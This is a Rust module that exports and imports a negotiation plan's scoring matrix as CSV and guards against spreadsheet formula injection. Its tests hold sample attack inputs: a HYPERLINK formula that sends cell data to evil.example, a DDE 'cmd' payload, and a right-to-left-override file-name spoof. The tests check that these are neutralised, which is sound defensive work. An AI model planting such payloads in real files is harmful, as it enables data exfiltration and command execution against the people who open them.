//! The scoring matrix as CSV: one row per option with, for every party, the issue's weight
//! and the option's rating. Import matches issues, options and parties by name (ignoring
//! case and surrounding spaces) into an existing plan and reports what did not match; a
//! malformed file changes nothing. Pure.

use crate::model::limits::thousands;
use crate::model::text::export_line;
use crate::model::{Plan, Score};
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::fmt;

#[derive(Clone, Debug, PartialEq)]
pub struct CsvError {
    pub line: usize,
    pub message: String,
}

impl fmt::Display for CsvError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

/// What an import changed and what it could not place.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct CsvReport {
    pub updated_scores: usize,
    /// The first [`SHOWN_UNMATCHED`] names that matched nothing, in file order.
    pub unmatched: Vec<String>,
    /// How many names matched nothing, shown or not.
    pub unmatched_count: usize,
}

/// Unmatched names listed by name; the rest are counted.
pub const SHOWN_UNMATCHED: usize = 20;

impl CsvReport {
    fn not_matched(&mut self, what: String) {
        if self.unmatched.len() < SHOWN_UNMATCHED {
            self.unmatched.push(what);
        }
        self.unmatched_count += 1;
    }

    /// "Imported 12 scores from “file.csv”. Not matched: …, and 480 more."
    pub fn summary(&self, file: &str) -> String {
        let mut text = format!("Imported {} scores from “{file}”.", self.updated_scores);
        if !self.unmatched.is_empty() {
            text.push_str(" Not matched: ");
            text.push_str(&self.unmatched.join("; "));
            let more = self.unmatched_count.saturating_sub(self.unmatched.len());
            if more > 0 {
                text.push_str(&format!("; and {} more", thousands(more)));
            }
            text.push('.');
        }
        text
    }
}

/// What a spreadsheet program reads as the start of a formula: `=`, `+`, `-`, `@` (and
/// their full-width forms, which some programs convert).
fn starts_formula(field: &str) -> bool {
    field
        .trim_start()
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// One text cell. Control and direction characters are dropped (line breaks and tabs
/// become spaces). A cell a spreadsheet would evaluate gets a leading `'`, as OWASP
/// advises for CSV injection: quotes alone do not stop LibreOffice or Excel from running
/// `=HYPERLINK(…)`. Then RFC 4180 quoting where needed.
pub(crate) fn quote(field: &str) -> String {
    let field = export_line(field);
    let field = if starts_formula(&field) {
        Cow::Owned(format!("'{field}"))
    } else {
        field
    };
    if field.contains([',', '"']) || field.starts_with(' ') || field.ends_with(' ') {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.into_owned()
    }
}

/// A name as the import compares it: what [`quote`] wrote, without the `'` it may have
/// added, ignoring case and surrounding spaces.
fn key(name: &str) -> String {
    let name = export_line(name);
    let name = match name.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => &name,
    };
    name.trim().to_lowercase()
}

pub(crate) fn number(v: f64) -> String {
    let s = format!("{v:.4}");
    let s = s.trim_end_matches('0').trim_end_matches('.');
    if s.is_empty() || s == "-" || s == "-0" {
        "0".into()
    } else {
        s.to_string()
    }
}

pub fn export(plan: &Plan) -> String {
    let mut out = String::new();
    let mut header = vec!["issue".to_string(), "option".to_string()];
    for p in &plan.parties {
        header.push(quote(&format!("{} weight", p.name)));
        header.push(quote(&format!("{} rating", p.name)));
    }
    out.push_str(&header.join(","));
    out.push_str("\r\n");
    for issue in &plan.issues {
        for option in &issue.options {
            let mut row = vec![quote(&issue.name), quote(&option.label)];
            for p in &plan.parties {
                row.push(
                    p.weights
                        .get(&issue.id)
                        .map_or(String::new(), |s| number(s.value)),
                );
                row.push(
                    p.ratings
                        .get(&option.id)
                        .map_or(String::new(), |s| number(s.value)),
                );
            }
            out.push_str(&row.join(","));
            out.push_str("\r\n");
        }
    }
    out
}

/// RFC 4180 records; errors name the line.
fn parse(text: &str) -> Result<Vec<(usize, Vec<String>)>, CsvError> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut in_quotes = false;
    let mut line = 1;
    let mut row_line = 1;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (in_quotes, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => in_quotes = false,
            (true, c) => {
                if c == '\n' {
                    line += 1;
                }
                field.push(c);
            }
            (false, '"') if field.is_empty() => in_quotes = true,
            (false, '"') => {
                return Err(CsvError {
                    line,
                    message: "a quote in the middle of a field".into(),
                })
            }
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push((row_line, std::mem::take(&mut row)));
                line += 1;
                row_line = line;
            }
            (false, c) => field.push(c),
        }
    }
    if in_quotes {
        return Err(CsvError {
            line: row_line,
            message: "a quoted field is never closed".into(),
        });
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push((row_line, row));
    }
    rows.retain(|(_, r)| !(r.len() == 1 && r[0].trim().is_empty()));
    Ok(rows)
}

/// Reads scores from `text` into `plan`. On any error the plan is left unchanged. The
/// work is linear in the size of the file: names are looked up in hash maps.
pub fn import(plan: &mut Plan, text: &str) -> Result<CsvReport, CsvError> {
    if text.len() > 20 * 1024 * 1024 {
        return Err(CsvError {
            line: 1,
            message: "the file is larger than 20 MB".into(),
        });
    }
    let rows = parse(text)?;
    let Some(((_, header), body)) = rows.split_first() else {
        return Err(CsvError {
            line: 1,
            message: "the file is empty".into(),
        });
    };
    if header.len() < 2 || key(&header[0]) != "issue" || key(&header[1]) != "option" {
        return Err(CsvError {
            line: 1,
            message: "the first row should start with the columns issue,option".into(),
        });
    }
    let mut report = CsvReport::default();
    // Columns "<party> weight" / "<party> rating" → (party index, is_weight).
    let mut parties: HashMap<String, usize> = HashMap::new();
    for (k, p) in plan.parties.iter().enumerate().rev() {
        parties.insert(key(&p.name), k);
    }
    let mut columns = Vec::new();
    let mut unknown_parties = HashSet::new();
    for (c, name) in header.iter().enumerate().skip(2) {
        let lower = key(name);
        let (party_name, is_weight) = if let Some(p) = lower.strip_suffix(" weight") {
            (p.trim_end(), true)
        } else if let Some(p) = lower.strip_suffix(" rating") {
            (p.trim_end(), false)
        } else {
            return Err(CsvError {
                line: 1,
                message: format!(
                    "column {} (“{}”) should end in “weight” or “rating”",
                    c + 1,
                    export_line(name)
                ),
            });
        };
        match parties.get(party_name) {
            Some(&k) => columns.push(Some((k, is_weight))),
            None => {
                if unknown_parties.insert(lower.clone()) {
                    report.not_matched(format!(
                        "party “{}” (column {})",
                        export_line(name).trim(),
                        c + 1
                    ));
                }
                columns.push(None)
            }
        }
    }
    let mut updated = plan.clone();
    // The first issue of each name, and within it the first option of each label.
    let mut issues: HashMap<String, (usize, HashMap<String, usize>)> = HashMap::new();
    for (i, issue) in updated.issues.iter().enumerate().rev() {
        let mut options = HashMap::new();
        for (o, option) in issue.options.iter().enumerate().rev() {
            options.insert(key(&option.label), o);
        }
        issues.insert(key(&issue.name), (i, options));
    }
    for (line, row) in body {
        let issue_name = row.first().map(String::as_str).unwrap_or("");
        let option_label = row.get(1).map(String::as_str).unwrap_or("");
        let Some((i, options)) = issues.get(&key(issue_name)) else {
            report.not_matched(format!("issue “{}” (line {line})", export_line(issue_name)));
            continue;
        };
        let Some(&o) = options.get(&key(option_label)) else {
            report.not_matched(format!(
                "option “{}” of “{}” (line {line})",
                export_line(option_label),
                export_line(issue_name)
            ));
            continue;
        };
        let issue_id = updated.issues[*i].id.clone();
        let option_id = updated.issues[*i].options[o].id.clone();
        // The row's own cells, not the header's width: a wide header with short rows
        // must not cost rows × columns.
        for (c, cell) in row.iter().skip(2).enumerate() {
            let Some(Some((k, is_weight))) = columns.get(c) else {
                continue;
            };
            let cell = cell.trim();
            if cell.is_empty() {
                continue;
            }
            let value: f64 = cell
                .parse()
                .ok()
                .filter(|v: &f64| v.is_finite())
                .ok_or(CsvError {
                    line: *line,
                    message: format!(
                        "“{}” in column {} is not a number",
                        export_line(cell),
                        c + 3
                    ),
                })?;
            if !(0.0..=100.0).contains(&value) {
                return Err(CsvError {
                    line: *line,
                    message: format!("{value} in column {} is not between 0 and 100", c + 3),
                });
            }
            let Some(party) = updated.parties.get_mut(*k) else {
                continue;
            };
            // Weights are per issue (repeated on each of its rows), ratings per option.
            let score = if *is_weight {
                party
                    .weights
                    .entry(issue_id.clone())
                    .or_insert(Score::new(value))
            } else {
                party
                    .ratings
                    .entry(option_id.clone())
                    .or_insert(Score::new(value))
            };
            score.value = value;
            report.updated_scores += 1;
        }
    }
    *plan = updated;
    Ok(report)
}

/// The cells a spreadsheet would evaluate: the first character after any spaces is a
/// formula character, or the cell starts with a TAB or CR (which programs skip). For tests
/// of every CSV the app writes.
#[cfg(test)]
pub(crate) fn live_cells(csv: &str) -> Vec<String> {
    let mut live = Vec::new();
    for (_, row) in parse(csv).unwrap() {
        for cell in row {
            if cell.starts_with(['\t', '\r']) || starts_formula(&cell) {
                live.push(cell);
            }
        }
    }
    live
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{sample_plan, PlanId};

    fn plan() -> Plan {
        sample_plan(PlanId::parse("p1").unwrap(), 0)
    }

    #[test]
    fn export_then_import_changes_nothing_and_matches_everything() {
        let mut p = plan();
        let text = export(&p);
        assert!(text.starts_with("issue,option,Dana (candidate) weight,Dana (candidate) rating,"));
        let report = import(&mut p, &text).unwrap();
        assert_eq!(report.unmatched, Vec::<String>::new());
        assert_eq!(report.updated_scores, 12 * 4);
        assert_eq!(p, plan());
    }

    #[test]
    fn names_match_loosely_and_unknown_ones_are_reported() {
        let mut p = plan();
        let text = "Issue,Option,NIMBUS (HIRING MANAGER) rating,Someone rating\r\n\
                    salary , €85K ,12,5\n\
                    Parking,Free,1,1\n\
                    Salary,€200k,1,1\n";
        let report = import(&mut p, text).unwrap();
        assert_eq!(report.updated_scores, 1);
        let nimbus = &p.parties[1];
        let first = &p.issues[0].options[0].id;
        assert_eq!(nimbus.ratings[first].value, 12.0);
        assert_eq!(report.unmatched.len(), 3, "{:?}", report.unmatched);
        assert!(report.unmatched[0].contains("Someone"));
        assert!(report.unmatched[1].contains("Parking") && report.unmatched[1].contains("line 3"));
        assert!(report.unmatched[2].contains("€200k"));
    }

    #[test]
    fn bad_files_change_nothing() {
        for (text, words) in [
            ("", "empty"),
            ("a,b\n", "issue,option"),
            ("issue,option,x\n", "weight"),
            (
                "issue,option,Dana (candidate) rating\nSalary,€85k,lots\n",
                "line 2",
            ),
            (
                "issue,option,Dana (candidate) rating\nSalary,€85k,150\n",
                "between 0 and 100",
            ),
            ("issue,option\n\"Salary,€85k\n", "never closed"),
            ("issue,option\nSal\"ary,€85k\n", "quote"),
        ] {
            let mut p = plan();
            let err = import(&mut p, text).expect_err(text);
            assert!(err.to_string().contains(words), "{err} lacks {words}");
            assert_eq!(p, plan());
        }
    }

    #[test]
    fn quotes_and_formulas_are_escaped() {
        let mut p = plan();
        p.issues[0].name = "=HYPERLINK(\"x\"), \"quoted\"".into();
        let text = export(&p);
        assert!(text.contains("\"'=HYPERLINK(\"\"x\"\"), \"\"quoted\"\"\""));
        let report = import(&mut p.clone(), &text).unwrap();
        assert!(report.unmatched.is_empty());
    }

    #[test]
    fn no_name_becomes_a_live_formula_and_every_name_still_matches() {
        for lead in [
            "=", "+", "-", "@", "\t", "\r", " =", "\t=", "\r\n+", "＝", "\u{0}=",
        ] {
            let mut p = plan();
            let name = format!("{lead}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")");
            p.issues[0].name = name.clone();
            p.issues[0].options[0].label = format!("{lead}1+1");
            p.parties[0].name = format!("{lead}cmd|' /C calc'!A0");
            let text = export(&p);
            assert_eq!(live_cells(&text), Vec::<String>::new(), "{lead:?}: {text}");
            // The protected names still match their plan on the way back in.
            let report = import(&mut p.clone(), &text).unwrap();
            assert_eq!(report.unmatched, Vec::<String>::new(), "{lead:?}");
            assert_eq!(report.updated_scores, 12 * 4, "{lead:?}");
        }
    }

    #[test]
    fn control_and_direction_characters_never_reach_a_cell() {
        let mut p = plan();
        p.issues[0].name = "Sal\u{0}ary\u{7}\u{202E}gpj.exe\nnext".into();
        let text = export(&p);
        assert!(text.contains("\r\nSalarygpj.exe next,"), "{text}");
        assert!(!text
            .chars()
            .any(|c| c.is_control() && c != '\r' && c != '\n'));
        assert!(!text.contains('\u{202E}'));
        assert_eq!(import(&mut p.clone(), &text).unwrap().unmatched_count, 0);
    }

    #[test]
    fn unmatched_names_are_listed_up_to_twenty_with_a_count() {
        let mut p = plan();
        let mut text = String::from("issue,option,Dana (candidate) rating\n");
        for k in 0..500 {
            text.push_str(&format!("Nothing {k},x,1\n"));
        }
        let report = import(&mut p, &text).unwrap();
        assert_eq!(report.unmatched.len(), SHOWN_UNMATCHED);
        assert_eq!(report.unmatched_count, 500);
        assert!(report.unmatched[19].contains("Nothing 19"));
        let summary = report.summary("big.csv");
        assert!(summary.ends_with("; and 480 more."), "{summary}");
        assert!(summary.len() < 1_000, "{}", summary.len());
        // Many columns of unknown parties: each is named once, and counted.
        let header: Vec<String> = (0..1_000).map(|k| format!("P{k} rating")).collect();
        let text = format!("issue,option,{},P0 rating\n", header.join(","));
        let report = import(&mut plan(), &text).unwrap();
        assert_eq!(report.unmatched_count, 1_000);
    }
}
